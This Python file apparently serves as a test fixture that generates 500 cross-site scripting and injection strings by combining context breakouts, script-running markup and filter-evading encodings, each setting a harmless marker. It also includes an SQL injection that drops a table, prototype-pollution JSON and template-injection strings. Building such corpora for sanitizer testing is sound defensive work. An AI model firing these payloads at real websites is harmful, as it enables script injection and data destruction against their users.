"""Five hundred texts that would run a script, load something or break out of their place, if they were anything but text.

Each that runs sets `window.ran`. Made from parts: what breaks out of a place, what runs, and how it is spelled.
"""

from itertools import product
from urllib.parse import quote

COUNT = 500
RUN = "window.ran=1"

BREAKOUTS = ["", '"', "'>", '">', "</textarea>", "</title><x>", "</style>", "</script>", "-->", "]]>", "</p></dd></dl>", "`"]

MARKUP = [
    f"<script>{RUN}</script>",
    f"<script src=\"data:text/javascript,{RUN}\"></script>",
    f"<script type=module>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f'<img src="https://example.org/seen.png" onload="{RUN}">',
    f'<image href=x onerror="{RUN}">',
    f'<svg onload="{RUN}">',
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s>',
    f'<svg><a xlink:href="javascript:{RUN}"><text>x</text></a></svg>',
    f'<math><mtext><img src=x onerror="{RUN}"></mtext></math>',
    f'<body onload="{RUN}">',
    f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    f'<input autofocus onfocus="{RUN}">',
    f'<select autofocus onfocus="{RUN}"></select>',
    f'<video><source onerror="{RUN}"></video>',
    f'<audio src=x onerror="{RUN}"></audio>',
    f'<marquee onstart="{RUN}">x</marquee>',
    f'<div onmouseover="{RUN}" style="position:fixed;inset:0">x</div>',
    f'<p onanimationstart="{RUN}" style="animation:x 1s">x</p>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    f'<object data="javascript:{RUN}"></object>',
    f'<embed src="javascript:{RUN}">',
    f'<a href="javascript:{RUN}">x</a>',
    f'<form action="javascript:{RUN}"><button>x</button></form>',
    f'<button formaction="javascript:{RUN}">x</button>',
    f'<base href="javascript:{RUN}//">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">',
    '<link rel="stylesheet" href="https://example.org/x.css">',
    "<style>@import 'https://example.org/x.css';*{display:none}</style>",
    f'<template shadowrootmode="open"><img src=x onerror="{RUN}"></template>',
]

BARE = [
    f"[a link](javascript:{RUN})",
    f"![a picture](https://example.org/x.png\"onerror=\"{RUN})",
    f"[x]: javascript:{RUN}\n\n[x]",
    f"<javascript:{RUN}>",
    f"[a link](data:text/html,<script>{RUN}</script>)",
    f"javascript:{RUN}",
    f"{{@html '<img src=x onerror={RUN}>'}}",
    f"{{#if {RUN}}}{{/if}}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    f"#{{{RUN}}}",
    f"<%= {RUN} %>",
    f"<?{RUN}?>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<!-- --><script>{RUN}</script>",
    "<!-- handrail-sealed/1 AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA -->",
    "<!--",
    "<plaintext>",
    "```json\n{\"kind\":\"letter\"}\n```\n",
    "~~~\n```\n",
    '{"__proto__":{"ran":1}}',
    "__proto__",
    "constructor",
    f"'; {RUN}; //",
    f"\\'; {RUN}; //",
    "=HYPERLINK(\"https://example.org\")",
    "' OR 1=1; DROP TABLE records; --",
    "%s%n%x {0} {} $1 \\1",
]


def _mixed_case(text):
    mixed = "".join(letter.upper() if place % 2 else letter.lower() for place, letter in enumerate(text))
    # Scripts, unlike tags, are written in one way only.
    place = text.find(RUN)
    return mixed if place < 0 else mixed[:place] + RUN + mixed[place + len(RUN) :]


SPELLINGS = [
    str,
    _mixed_case,
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace(" ", "\n"),
    lambda text: text.replace(" ", "\t").replace("javascript:", "java\tscript:"),
    lambda text: text.replace("=", "\0="),
    lambda text: text.replace(RUN, "".join(f"&#{ord(letter)};" for letter in RUN)),
    lambda text: text.replace("javascript:", "&#x6a;avascript&colon;").replace("<", "&lt;"),
    lambda text: quote(text, safe=""),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
    lambda text: text.replace("<", "<\u200b"),
    lambda text: "\u202e" + text[::-1] + "\u202c" + text,
    lambda text: text.replace("<", "<<"),
]


def payloads(count=COUNT):
    """So many different ones; always the same, in the same order."""
    made = [spell(before + markup) for spell, before, markup in product(SPELLINGS, BREAKOUTS, MARKUP)]
    # A step that is prime to every number of parts meets each part early.
    spread = [made[place * 1009 % len(made)] for place in range(len(made))]
    return list(dict.fromkeys(BARE + spread))[:count]
